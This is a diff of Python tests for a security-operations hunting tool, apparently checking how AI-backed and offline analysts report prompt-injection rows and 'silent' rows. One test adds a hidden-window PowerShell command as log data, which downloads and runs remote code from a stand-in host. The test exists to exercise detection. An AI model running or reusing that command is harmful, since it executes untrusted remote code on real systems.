@@ -22,6 +22,7 @@ from soc_tui.model.quote import Quote, injection_text
 from soc_tui.model.rows import Rows
 from tests.analysts.openai.cases import ENCODED, make_analyst, rows_of
 from tests.hunting.test_hunter import MemoryWorkspace
+from tests.wire import openai_faults as wire
 from tests.wire.openai_server import OpenAIServer
 from tests.wire.scripted_model import HuntRequest, finding
 
@@ -78,6 +79,15 @@ async def test_a_silent_model_leaves_the_finding_and_its_silence_is_said() -> No
     assert "The model said nothing about 2 rows that address it." in hunt.notes
 
 
+async def test_a_hunt_that_fails_says_what_the_model_left_unsaid() -> None:
+    with OpenAIServer(hunt=honest) as server:
+        server.next(wire.unauthorized())
+        _, hunt = await hunted(make_analyst(server))
+    assert hunt.problem
+    assert [found.tags for found in hunt.findings] == [(TAG,)]
+    assert hunt.silent_rows == 2
+
+
 async def test_a_model_that_reports_the_rows_is_not_called_silent() -> None:
     hunt = await by_model(honest)
     assert hunt.findings[0].tags == (TAG,)
@@ -87,12 +97,16 @@ async def test_a_model_that_reports_the_rows_is_not_called_silent() -> None:
 
 
 async def test_the_offline_analyst_has_the_finding_too() -> None:
-    events, hunt = await hunted(OfflineAnalyst())
+    download = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"
+    rows = rows_of([ORDER, download, ORDER])
+    events, hunt = await hunted(OfflineAnalyst(), rows)
     quoted = next(event for event in events if isinstance(event, Quoted))
     assert quoted.quote.injected_rows == 2
-    assert hunt.findings[0].tags == (TAG,)
-    assert hunt.findings[0].grounded
-    assert any(TAG not in found.tags for found in hunt.findings)
+    first, *rest = hunt.findings
+    assert first.tags == (TAG,)
+    assert first.grounded
+    # No rule tells of the same rows once more.
+    assert {cited.row_id for found in rest for cited in found.evidence} == {"r2"}
     assert hunt.silent_rows == 0
 
 
